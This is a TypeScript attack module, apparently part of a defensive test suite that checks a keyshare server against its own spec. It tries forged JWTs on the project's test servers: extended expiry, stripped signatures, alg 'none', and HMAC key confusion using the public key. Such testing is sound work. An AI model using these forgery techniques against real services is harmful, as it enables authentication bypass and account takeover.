/** A user changes the own token: its end, its algorithm, its signature. A token that never ends makes the PIN useless. @module */
import { createHmac, createPublicKey } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { headersOf, KEY, login, PIN } from '../../faults/keyshare/app.ts'
import { PROJECT } from '../../project.ts'
import type { Attack } from '../attack.ts'
import { post, startKeyshare, userOf } from '../keyshares.ts'

const PUBLIC = join(PROJECT, 'test/vectors/keys/kss-0.public.pem')
const encoded = (part: object): string => Buffer.from(JSON.stringify(part)).toString('base64url')

export const attack: Attack = {
  name: 'token-forged',
  gains: 'a token that outlives the PIN',
  cites: 'spec/keyshare-server#7.2',
  on: 'own servers',
  async run(own) {
    const servers = await startKeyshare(own)
    const user = await userOf(servers)
    const { message: token } = await login(servers, user, PIN)
    for (const [what, forged] of Object.entries(forgedFrom(token))) {
      const answer = await post(servers, '/prove/getCommitments', [KEY], headersOf(user, forged))
      if (answer.status === 200) return `a token ${what}`
    }
    return null
  },
}

function forgedFrom(token: string): Readonly<Record<string, string>> {
  const [header = '', claims = '', signature = ''] = token.split('.')
  const later = encoded({ ...JSON.parse(Buffer.from(claims, 'base64url').toString()), exp: 4_000_000_000 })
  const mac = (secret: string | Buffer): string => {
    const text = `${encoded({ alg: 'HS256', kid: '0', typ: 'JWT' })}.${later}`
    return `${text}.${createHmac('sha256', secret).update(text).digest('base64url')}`
  }
  const der = createPublicKey(readFileSync(PUBLIC)).export({ format: 'der', type: 'spki' })
  return {
    'with a later end': `${header}.${later}.${signature}`,
    'without a signature': `${header}.${later}.`,
    'of alg none': `${encoded({ alg: 'none' })}.${later}.`,
    'of alg none with a signature': `${encoded({ alg: 'none' })}.${later}.${signature}`,
    'with a MAC by the public key (PEM)': mac(readFileSync(PUBLIC)),
    'with a MAC by the public key (DER)': mac(der),
  }
}
